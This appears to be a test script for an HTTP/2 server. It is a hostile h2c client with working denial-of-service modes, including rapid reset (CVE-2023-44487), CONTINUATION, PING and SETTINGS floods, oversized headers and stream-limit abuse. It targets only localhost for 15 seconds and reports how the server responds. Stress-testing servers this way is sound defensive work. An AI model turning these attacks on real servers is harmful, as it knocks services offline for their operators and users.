#!/usr/bin/python3
"""A hostile HTTP/2 client (h2c) for the server's tests, from Debian's python3-h2.

    hostile_http2_client.py MODE PORT

attacks 127.0.0.1:PORT the way MODE says, for at most 15 seconds, and prints
one line: what the server did and after how long.

  rapid-reset         streams opened and reset at once (CVE-2023-44487)
  late-reset          5 rounds of 100 requests, each reset 50 ms after it was sent
  continuation-flood  a HEADERS frame, then CONTINUATION frames that never end it
  big-headers         a request whose header list is about 100 KB
  ping-flood          PING frames, never reading the answers
  settings-flood      SETTINGS frames the same way
  closed-window       SETTINGS_INITIAL_WINDOW_SIZE 0 and a request, never a WINDOW_UPDATE
  many-streams        50 requests at once, whatever the server's limit
"""
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

LIFETIME = 15.0
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")]


def connect(port, settings=None):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def events(sock, conn, wait):
    """What the server sent within `wait` seconds; None once it closed."""
    readable, _, _ = select.select([sock], [], [], wait)
    if not readable:
        return []
    try:
        data = sock.recv(65536)
    except ConnectionResetError:
        return None
    if not data:
        return None
    try:
        found = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return None
    sock.sendall(conn.data_to_send())
    return found


def ending(sock, conn, started, wait):
    """'goaway CODE after S s' or 'closed after S s' if the server ended the connection within `wait`."""
    found = events(sock, conn, wait)
    if found is None:
        return "closed after %.2f s" % (time.monotonic() - started)
    for event in found:
        if isinstance(event, h2.events.ConnectionTerminated):
            return "goaway %s after %.2f s" % (event.error_code.name, time.monotonic() - started)
    return None


def outcome_until_closed(sock, conn, started, stop):
    """Reads until the server says GOAWAY or closes; names which, and when."""
    while time.monotonic() < stop:
        said = ending(sock, conn, started, 0.2)
        if said:
            return said
    return "still open after %.2f s" % (time.monotonic() - started)


def flood_without_reading(sock, frame_bytes, started, stop):
    try:
        while time.monotonic() < stop:
            sock.sendall(frame_bytes * 64)
    except OSError:
        return "closed after %.2f s" % (time.monotonic() - started)
    return "still open after %.2f s" % (time.monotonic() - started)


def rapid_reset(port, started, stop):
    sock, conn = connect(port)
    for opened in range(20000):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, REQUEST, end_stream=True)
        conn.reset_stream(stream_id)
        if opened % 50 == 0:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                return "closed after %.2f s" % (time.monotonic() - started)
            said = ending(sock, conn, started, 0)
            if said:
                return said
    sock.sendall(conn.data_to_send())
    return outcome_until_closed(sock, conn, started, stop)


def late_reset(port, started, stop):
    sock, conn = connect(port)
    for _ in range(5):
        streams = [conn.get_next_available_stream_id() for _ in range(1)]
        for _ in range(99):
            conn.send_headers(streams[-1], REQUEST, end_stream=True)
            streams.append(conn.get_next_available_stream_id())
        conn.send_headers(streams[-1], REQUEST, end_stream=True)
        sock.sendall(conn.data_to_send())
        time.sleep(0.05)
        for stream_id in streams:
            conn.reset_stream(stream_id)
        sock.sendall(conn.data_to_send())
        said = ending(sock, conn, started, 0.01)
        if said:
            return said
    return "reset 500 after %.2f s" % (time.monotonic() - started)


def raw_headers(stream_id, headers, end_headers):
    block = Encoder().encode(headers)
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = [HeadersFrame(stream_id, data=chunks[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(stream_id, data=chunk) for chunk in chunks[1:]]
    if end_headers:
        frames[-1].flags.add("END_HEADERS")
    return b"".join(frame.serialize() for frame in frames)


def attack(mode, port, started, stop):
    if mode == "rapid-reset":
        return rapid_reset(port, started, stop)
    if mode == "late-reset":
        return late_reset(port, started, stop)
    if mode == "closed-window":
        sock, conn = connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        conn.send_headers(1, REQUEST, end_stream=True)
        sock.sendall(conn.data_to_send())
        return outcome_until_closed(sock, conn, started, stop)
    if mode == "many-streams":
        sock, conn = connect(port)
        for _ in range(50):
            conn.send_headers(conn.get_next_available_stream_id(), REQUEST, end_stream=True)
        sock.sendall(conn.data_to_send())
        answered = refused = 0
        while answered + refused < 50 and time.monotonic() < stop:
            found = events(sock, conn, 0.5)
            if found is None:
                break
            answered += sum(isinstance(e, h2.events.StreamEnded) for e in found)
            refused += sum(isinstance(e, h2.events.StreamReset) for e in found)
        return "answered %d refused %d" % (answered, refused)
    sock, conn = connect(port)
    if mode == "ping-flood":
        return flood_without_reading(sock, PingFrame(0, opaque_data=b"12345678").serialize(), started, stop)
    if mode == "settings-flood":
        return flood_without_reading(sock, SettingsFrame(0).serialize(), started, stop)
    if mode == "continuation-flood":
        sock.sendall(raw_headers(1, REQUEST, end_headers=False))
        piece = ContinuationFrame(1, data=Encoder().encode([("x-flood", "a" * 1000)])).serialize()
        return flood_without_reading(sock, piece, started, stop)
    if mode == "big-headers":
        headers = REQUEST + [("x-big-%d" % i, "b" * 4000) for i in range(25)]
        sock.sendall(raw_headers(1, headers, end_headers=True))
        while time.monotonic() < stop:
            found = events(sock, conn, 0.2)
            if found is None:
                return "closed after %.2f s" % (time.monotonic() - started)
            for event in found:
                if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return "refused after %.2f s" % (time.monotonic() - started)
                if isinstance(event, h2.events.ResponseReceived):
                    return "answered %s" % dict(event.headers).get(b":status", b"?").decode()
        return "still open after %.2f s" % (time.monotonic() - started)
    raise SystemExit("unknown mode " + mode)


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    started = time.monotonic()
    print(attack(mode, port, started, started + LIFETIME), flush=True)


if __name__ == "__main__":
    main()
